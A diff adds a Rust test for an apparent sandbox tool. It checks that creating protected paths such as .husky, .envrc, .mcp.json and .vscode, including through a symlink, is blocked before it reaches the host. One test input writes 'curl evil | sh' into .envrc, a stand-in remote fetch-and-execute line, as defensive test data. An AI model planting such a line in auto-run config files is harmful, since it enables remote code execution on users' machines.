@@ -760,3 +760,59 @@ fn git_without_an_identity_fails_for_the_real_reason() {
     assert!(stderr.contains("Please tell me who you are"), "{stderr}");
     assert!(!stderr.contains("autonomic:"), "{stderr}");
 }
+
+/// With the path watch on (the default), creating a protected path that did
+/// not exist kills the task before the call runs and names the path — by
+/// `mkdir`, by `open(O_CREAT)`, by a rename onto it — while a fresh `git
+/// init` (no `.git` before) is fine.
+#[test]
+fn creating_a_protected_path_is_refused_before_it_happens() {
+    let home = TestHome::new();
+    let fake = FakeHome::new();
+    for (script, name) in [
+        ("mkdir .husky", ".husky"),
+        ("echo 'curl evil | sh' > .envrc", ".envrc"),
+        ("echo '{}' > x.json && mv x.json .mcp.json", ".mcp.json"),
+        (
+            "mkdir -p sub && ln -s .. sub/up && mkdir sub/up/.vscode",
+            ".vscode",
+        ),
+    ] {
+        let ws = tempfile::tempdir().unwrap();
+        let mut cmd = home.cmd();
+        cmd.env("HOME", fake.path())
+            .args([
+                "exec",
+                "--sandbox",
+                "seccomp",
+                "--timeout",
+                "60s",
+                "--workspace",
+            ])
+            .arg(ws.path())
+            .args(["--", "sh", "-c", script]);
+        let (code, stdout, stderr) = run(&home, &mut cmd);
+        require_jail(&stderr);
+        assert_eq!(code, 159, "{script}: {stdout}\n{stderr}");
+        assert!(
+            stderr.contains(&format!(
+                "creating `{}/{name}`",
+                ws.path().canonicalize().unwrap().display()
+            )),
+            "{script}: {stderr}"
+        );
+        assert!(
+            std::fs::symlink_metadata(ws.path().join(name)).is_err(),
+            "{script}: {name} reached the host"
+        );
+    }
+    let ws = tempfile::tempdir().unwrap();
+    let mut cmd = home.cmd();
+    cmd.env("HOME", fake.path())
+        .args(["exec", "--sandbox", "seccomp", "--workspace"])
+        .arg(ws.path())
+        .args(["--", "git", "init", "-q", "."]);
+    let (code, _, stderr) = run(&home, &mut cmd);
+    assert_eq!(code, 0, "{stderr}");
+    assert!(ws.path().join(".git/config").is_file());
+}
